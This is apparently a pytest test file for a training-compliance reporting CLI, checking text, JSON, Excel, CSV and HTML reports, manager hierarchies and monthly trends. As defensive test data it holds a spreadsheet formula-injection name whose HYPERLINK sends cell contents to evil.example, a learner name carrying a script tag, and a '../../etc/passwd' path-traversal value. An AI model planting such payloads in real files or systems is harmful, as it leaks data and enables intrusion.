"""`report` over the team's real store (roster imported, statements synced): the text report in the page's order,
an unknown manager refused by name, the Excel workbook read back with openpyxl, CSV with a BOM, one page per
manager, and the trend checked against `status --as-of` for three month ends; over a council's store, everyone
below a manager at any depth (the page's order, one page each) and a loop in HR's chain warned of."""

from __future__ import annotations

import re
from collections import Counter
from datetime import date, datetime
from pathlib import Path

import openpyxl
import orjson
import pytest
from click.testing import CliRunner

from lrs_adapter.cli import main
from lrs_adapter.cli.report import page_name
from lrs_adapter.report.exports import TEAM_COLUMNS
from lrs_adapter.report.page import STATUSES
from tests.helpers.council import BELOW_MANAGER, DIRECTOR, LOOP, build_council_store
from tests.helpers.team import AS_OF, HOSTILE_NAME, MANAGER, OTHERS, TEAM, build_team_store

URGENCY = [status.key for status in STATUSES]
FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def config(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The team, and one more report of the manager's added by hand whose name is a spreadsheet formula."""
    path = build_team_store(tmp_path_factory.mktemp("team"))
    added = ["learners", "add", "P10012", "--name", FORMULA_NAME, "--department", "Highways", "--staff-group", "Office"]
    added += ["--manager", MANAGER, "--assigned", "2026-11-01", "--reason", "test"]
    code, output = cli(path, *added)
    assert code == 0, output
    return path


def cli(config: Path, *args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["--config", str(config), "--log-format", "json", *args])
    return result.exit_code, result.output


def day(cell: object) -> date:
    """A date cell as openpyxl reads it back: a datetime at midnight (a text cell would be a str)."""
    assert isinstance(cell, datetime)
    return cell.date()


def json_lines(config: Path, *args: str) -> list[dict[str, object]]:
    code, output = cli(config, *args, "--format", "json")
    assert code == 0, output
    return [orjson.loads(line) for line in output.splitlines() if line]


def test_the_text_report_is_in_the_pages_order_with_how_long_overdue(config: Path) -> None:
    records = json_lines(config, "report", "--manager", MANAGER, "--as-of", AS_OF.isoformat())
    statuses = [str(r["status"]) for r in records]
    assert [URGENCY.index(s) for s in statuses] == sorted(URGENCY.index(s) for s in statuses)
    reds = [r for r in records if r["status"] == "red"]
    assert [r["learner"] for r in reds] == ["P10001", "P10003", "P10002"]  # the longest overdue first
    assert reds[0]["overdue_by"] == "2 years 5 months"  # due 1 Jul 2024, as of 1 Dec 2026
    assert reds[0]["last_option"] is None
    assert reds[2]["last_option"] == "Prevent e-learning"
    code, table = cli(config, "report", "--manager", MANAGER, "--as-of", AS_OF.isoformat())
    assert code == 0
    lines = table.splitlines()
    assert lines[0].split()[:6] == list(TEAM_COLUMNS[:6])
    assert "Ada Overdue" in lines[1]
    assert "2 years 5 months" in lines[1]


def test_an_unknown_manager_is_an_error_naming_them(config: Path) -> None:
    code, output = cli(config, "report", "--manager", "NOBODY")
    assert code == 2
    assert "no manager 'NOBODY'" in output
    code, output = cli(config, "report", "--manager", "NOBODY", "--html", "/tmp/never-written.html")
    assert (code, Path("/tmp/never-written.html").exists()) == (2, False)


def test_the_workbook_holds_dates_as_dates_a_frozen_header_a_filter_and_no_formula(
    config: Path, tmp_path: Path
) -> None:
    path = tmp_path / "team.xlsx"
    code, output = cli(
        config, "report", "--manager", MANAGER, "--as-of", AS_OF.isoformat(), "--format", "xlsx", "--output", str(path)
    )
    assert code == 0, output
    assert f"wrote {path} ({len(TEAM) + 1} rows)" in output
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    assert [c.value for c in sheet[1]] == list(TEAM_COLUMNS)
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:K{len(TEAM) + 2}"
    rows = [dict(zip(TEAM_COLUMNS, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)]
    by_learner = {r["learner"]: r for r in rows}
    assert day(by_learner["P10002"]["due_on"]) == date(2026, 5, 10)  # a real date: the cell's type, not text
    assert day(by_learner["P10002"]["certified_on"]) == date(2024, 5, 10)
    assert by_learner["P10003"]["certified_on"] is None
    assert by_learner["P10006"]["name"] == HOSTILE_NAME
    assert by_learner["P10012"]["name"] == FORMULA_NAME  # as written, and stored as text:
    formula_cell = next(row[0] for row in sheet.iter_rows(min_row=2) if row[1].value == "P10012")
    assert formula_cell.data_type == "s"
    due_cell = next(row[6] for row in sheet.iter_rows(min_row=2) if row[1].value == "P10002")
    assert (due_cell.data_type, due_cell.number_format) == ("d", "yyyy-mm-dd")
    assert [r["status"] for r in rows][:3] == ["red", "red", "red"]
    code, output = cli(config, "report", "--manager", MANAGER, "--format", "xlsx")
    assert code == 2
    assert "--output FILE" in output


def test_csv_with_a_bom_on_request(config: Path) -> None:
    result = CliRunner().invoke(
        main, ["--config", str(config), "report", "--manager", MANAGER, "--format", "csv", "--bom"]
    )
    assert result.exit_code == 0, result.output
    assert result.output.startswith('\ufeff"name","learner"')
    assert f'"\'{FORMULA_NAME.replace(chr(34), chr(34) * 2)}"' in result.output  # CSV's own defence: a leading quote


def test_all_managers_writes_one_page_each_in_the_directory(config: Path, tmp_path: Path) -> None:
    code, output = cli(config, "report", "--all-managers", "--html", str(tmp_path), "--as-of", AS_OF.isoformat())
    assert code == 0, output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["manager-M00001.html", "manager-M00002.html"]
    assert "wrote 2 pages" in output
    mine = (tmp_path / "manager-M00001.html").read_text()
    theirs = (tmp_path / "manager-M00002.html").read_text()
    assert mine.count("<tr data-learner=") == len(TEAM) + 1
    assert theirs.count("<tr data-learner=") == len(OTHERS)
    assert "Siobhán O&#39;Brien &lt;script&gt;" in mine
    code, output = cli(config, "report", "--all-managers")
    assert code == 2
    assert "--html DIR" in output


@pytest.fixture(scope="module")
def council(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_council_store(tmp_path_factory.mktemp("council"))


def test_a_managers_report_holds_everyone_below_them_in_the_pages_order(council: Path, tmp_path: Path) -> None:
    args = ["--config", str(council), "report", "--manager", DIRECTOR, "--as-of", AS_OF.isoformat(), "--format", "json"]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    records = [orjson.loads(line) for line in result.stdout.splitlines()]  # stderr warns of the roster's loop
    assert {r["learner"] for r in records} == {MANAGER, *BELOW_MANAGER}  # two levels down and more
    statuses = [URGENCY.index(str(r["status"])) for r in records]
    assert statuses == sorted(statuses)
    assert {"overdue_by", "last_option", "certified_on"} <= set(records[0])
    code, output = cli(council, "report", "--all-managers", "--html", str(tmp_path), "--as-of", AS_OF.isoformat())
    assert code == 0, output
    page = (tmp_path / page_name(DIRECTOR)).read_text()
    assert set(re.findall(r'<tr data-learner="([^"]+)"', page)) == {MANAGER, *BELOW_MANAGER}
    assert re.findall(r'<tr data-learner="([^"]+)"', page) == [r["learner"] for r in records]


def test_a_loop_in_the_chain_of_managers_is_followed_once_and_warned_of(council: Path) -> None:
    result = CliRunner().invoke(
        main, ["--config", str(council), "--log-format", "json", "report", "--manager", LOOP[0]]
    )
    assert result.exit_code == 0, result.output
    assert "the roster's managers go round in a loop" in result.stderr
    assert (
        f"({' -> '.join((*LOOP, LOOP[0]))})" in result.stderr
        or f"({' -> '.join((LOOP[1], LOOP[0], LOOP[1]))})" in result.stderr
    )
    code, output = cli(council, "report", "--manager", "NOBODY")
    assert code == 2, output


def test_a_managers_file_name_never_leaves_the_directory() -> None:
    assert page_name("../../etc/passwd") == "manager-..%2F..%2Fetc%2Fpasswd.html"
    assert page_name(".hidden") == "manager-.hidden.html"
    assert "/" not in page_name("a/b")
    assert "\\" not in page_name("a\\b")


def test_the_trend_counts_what_status_as_of_shows_for_those_on_the_roster_then(config: Path) -> None:
    months = json_lines(config, "report", "--trend", "--from", "2024-01", "--to", "2026-12")
    assert [m["month_end"] for m in months][:3] == ["2024-01-31", "2024-02-29", "2024-03-31"]
    assert len(months) == 36
    assigned = {learner: date.fromisoformat(row[2]) for learner, row in {**TEAM, **OTHERS}.items()}
    assigned |= {"M00001": date(2020, 1, 1), "P10012": date(2026, 11, 1)}
    by_end = {m["month_end"]: m for m in months}
    for day in ("2024-06-30", "2025-07-31", "2026-11-30"):
        states = json_lines(config, "status", "--as-of", day)
        on_roster = [s for s in states if assigned[str(s["learner"])] <= date.fromisoformat(day)]
        counts = Counter(str(s["status"]) for s in on_roster)
        assert {k: by_end[day][k] for k in URGENCY} == {k: counts[k] for k in URGENCY}, day
        assert by_end[day]["people"] == len(on_roster)
    assert int(str(by_end["2024-06-30"]["people"])) < int(
        str(by_end["2026-11-30"]["people"])
    )  # new starters join the count


def test_the_trend_of_a_department_and_as_a_page(config: Path, tmp_path: Path) -> None:
    highways = json_lines(
        config, "report", "--trend", "--from", "2026-11", "--to", "2026-11", "--department", "Highways"
    )
    people = sum(1 for row in {**TEAM, **OTHERS}.values() if row[1] == "Highways" and row[2] <= "2026-11-30") + 1
    assert [m["people"] for m in highways] == [people]  # the one added by hand is in Highways too
    page = tmp_path / "trend.html"
    code, output = cli(config, "report", "--trend", "--from", "2024-01", "--to", "2026-12", "--html", str(page))
    assert code == 0, output
    html = page.read_text()
    assert html.count("<tr data-month=") == 36
    assert html.count("<polyline") >= 3
    assert "<script" not in html
    code, output = cli(config, "report", "--trend", "--from", "2024-01")
    assert code == 2
    assert "--to YYYY-MM" in output
    code, output = cli(config, "report", "--trend", "--from", "2025-01", "--to", "2024-01")
    assert code == 2
    assert "--from is after --to" in output
